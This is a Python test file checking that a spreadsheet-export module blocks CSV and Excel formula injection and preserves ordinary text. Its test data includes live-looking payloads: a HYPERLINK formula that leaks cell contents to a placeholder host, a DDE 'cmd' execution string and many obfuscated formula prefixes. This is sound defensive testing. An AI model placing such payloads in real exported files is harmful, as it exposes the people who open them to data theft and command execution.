"""No cell of ours runs as a formula, and what was text comes back as the same text."""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest

from database.confinement.room import PROJECT
from database.spreadsheet import CsvTable, SheetTable, csv_file, csv_text
from tests.rooms import ROOMS

HOSTILE = [
    '=HYPERLINK("http://a.b/?"&A1,"x")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "\ufeff=1",
    "\u200b=1", "\x01=1", "=cmd|' /C calc'!A0", "＝1+1", "＋1", "－1+A1", "＠SUM(A1)", "−1+1", "|cmd", "%0A=1", "-", "-A1", "+", "--1",
    "=\n1", "a;=1+1", "a\t=1+1", 'a",=1+1', "0;\n=1",
]  # fmt: skip
HARMLESS = ["", "甲", "-5", "+3.5", "-1.2e-3", "001", "a=b", "1-2", "身份证'", "2026-01-01", "-"]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_field_of_a_csv_begins_a_formula_whatever_separates_it(text: str, delimiter: str):
    file = io.StringIO(newline="")
    table = CsvTable(file)
    table.write([text])
    table.write([text, 1])
    for row in csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=delimiter):
        for field in row:
            plain = field.lstrip(" \u3000\ufeff\u200b\x01\t\r\n").removesuffix(",1")
            assert plain in ("-", "+") or not re.match(r"[=+\-@|＝＋－＠−]", plain), field


def test_numbers_and_ordinary_texts_stay_as_they_are():
    for text in HARMLESS:
        assert csv_text(text) == text
    assert csv_text(-5) == -5


@pytest.mark.parametrize("text", [text for text in HOSTILE + HARMLESS if text and "\x01" not in text])
def test_a_text_in_a_workbook_is_text_and_comes_back_unchanged(tmp_path: Path, text: str):
    sheet = SheetTable("表")
    sheet.write_header([text])
    sheet.write([text, 5, None, -1.5])
    sheet.save(tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    for row in book.active.iter_rows(max_col=1):
        assert row[0].data_type in ("s", "inlineStr"), "no formula, no error, no number"
        assert str(row[0].value).replace("\r", "\n").replace("_x000D_", "\n") == text.replace("\r", "\n")
    assert [cell.value for cell in book.active[2]][1:] == [5, None, -1.5]


def test_control_characters_do_not_stop_a_workbook(tmp_path: Path):
    sheet = SheetTable("表")
    sheet.write_header(["a\x00b", "#N/A"])
    sheet.write(["\x01=1", "#REF!"])
    sheet.save(tmp_path / "a.xlsx")
    rows = list(openpyxl.load_workbook(tmp_path / "a.xlsx").active.iter_rows(values_only=True))
    assert rows == [("ab", "#N/A"), ("=1", "#REF!")]


def test_a_csv_file_says_its_encoding(tmp_path: Path):
    with csv_file(tmp_path / "a.csv") as table:
        table.write(["列", None])
    assert (tmp_path / "a.csv").read_bytes() == '\ufeff"列",""\r\n'.encode()


def test_there_is_one_writer_of_tables():
    allowed = {
        "database/spreadsheet.py",
        "demo/tables/writers.py",
    }  # the demo writes what departments send, not what we give out
    makes = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|xlsxwriter|to_csv\(|to_excel\(")
    found = {
        path.relative_to(PROJECT).as_posix()
        for floor in ROOMS
        for path in (PROJECT / floor).rglob("*.py")
        if makes.search(path.read_text(encoding="utf-8"))
    }
    assert found == allowed
